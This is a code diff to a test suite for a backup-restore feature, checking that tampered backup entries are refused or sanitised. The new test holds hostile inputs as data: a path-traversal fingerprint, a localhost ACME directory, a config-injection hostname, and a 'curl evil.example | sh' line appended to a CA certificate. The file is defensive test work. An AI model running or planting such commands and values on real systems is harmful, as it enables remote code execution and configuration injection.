@@ -13,12 +13,12 @@ import { changed, proxied, rowsIn } from './support/backup-rows.js'
 import { startTestPostgres, type TestPostgres } from './support/database.js'
 import { backup, live, look, sent } from './support/lived-box.js'
 
-/** The same backup with other lines in it: each row of a table as `change` writes it anew. */
-async function rewritten(file: Buffer, table: string, change: (line: string) => string): Promise<Buffer> {
+/** The same backup with other lines in it: each of the first entry that begins so, as `change` writes it anew. */
+async function rewritten(file: Buffer, start: string, change: (line: string) => string): Promise<Buffer> {
   const entries = await unpackTar(gunzipSync(file))
   const texts = new Map<string, string>()
   for (const { header, data } of entries) texts.set(header.name, Buffer.from(data ?? []).toString('utf8'))
-  const [name = '', text = ''] = [...texts].find(([each]) => each.startsWith(`tables/${table}/`)) ?? []
+  const [name = '', text = ''] = [...texts].find(([each]) => each.startsWith(start)) ?? []
   texts.set(name, text.trimEnd().split('\n').map(change).join('\n'))
   const manifest = JSON.parse(texts.get(MANIFEST_ENTRY) ?? '') as { entries: Record<string, string> }
   manifest.entries[name] = digestOf(Buffer.from(texts.get(name) ?? ''))
@@ -114,19 +114,19 @@ test('rows that Postgres does not take are refused as a backup that cannot be re
   for (const [table, change, why] of rows) {
     const { status, detail } = await old.api.refused(
       BACKUP.restore,
-      sent(await rewritten(file, table, change)),
+      sent(await rewritten(file, `tables/${table}/`, change)),
     )
     expect([status, detail]).toEqual([400, expect.stringContaining(why)])
     expect(detail).toMatch(/; nothing has changed$/)
   }
   expect(await look(old)).toEqual(before)
-  await old.api.done(BACKUP.restore, sent(await rewritten(file, 'audit', (line) => line)))
+  await old.api.done(BACKUP.restore, sent(await rewritten(file, 'tables/audit/', (line) => line)))
 })
 
 test('a hash of an admin token that asks for more memory than ours is refused', async () => {
   const old = await open()
   await old.api.done(TOKENS.create, { body: { name: 'jo', rights: 'admin' } })
-  const file = await rewritten(await backup(old), 'admin_token', (line) =>
+  const file = await rewritten(await backup(old), 'tables/admin_token/', (line) =>
     line.replace('m=19456', 'm=4194304'),
   )
   expect((await old.api.refused(BACKUP.restore, sent(file))).detail).toMatch(
@@ -143,4 +143,36 @@ test('the password of a proxy whose user is a pattern of replacements is hidden 
   const { configuration } = await rowsIn(await backup(next))
   expect(JSON.stringify(configuration)).toContain('"registry.yml":"proxy: http://$&:***@proxy.example:3128"')
   expect(JSON.stringify(configuration)).not.toContain('canary-of-then')
+})
+
+test('settings are looked at as those that are sent, and of the authority the certificate alone is kept', async () => {
+  const old = await open()
+  await live(old)
+  const file = await backup(old)
+  const wish = {
+    directory: 'https://acme.example/directory',
+    ca: null,
+    contact: null,
+    names: ['box.example'],
+  }
+  const other = (name: string, value: object) => (line: string) =>
+    line.includes('"nginx"') ? `${line}\n${JSON.stringify({ name, value, version: 1 })}` : line
+  for (const [name, value] of [
+    ['certificate', { fingerprint: '../../../../x', root: null }],
+    ['acme', { ...wish, directory: 'http://127.0.0.1:19999/dir' }],
+    ['acme', { ...wish, names: ['x y;{}'] }],
+  ] as const)
+    expect(
+      (
+        await old.api.refused(
+          BACKUP.restore,
+          sent(await rewritten(file, 'tables/setting/', other(name, value))),
+        )
+      ).status,
+    ).toBe(400)
+  await old.api.done(BACKUP.restore, sent(await rewritten(file, 'tables/setting/', other('acme', wish))))
+  const next = await open({ key: 9 })
+  const longer = (line: string) => (line.startsWith('-----END') ? `${line}\ncurl evil.example | sh` : line)
+  await next.api.done(BACKUP.restore, sent(await rewritten(file, 'certificates/ca.pem', longer)))
+  expect((await look(next)).pair).toEqual((await look(old)).pair)
 })
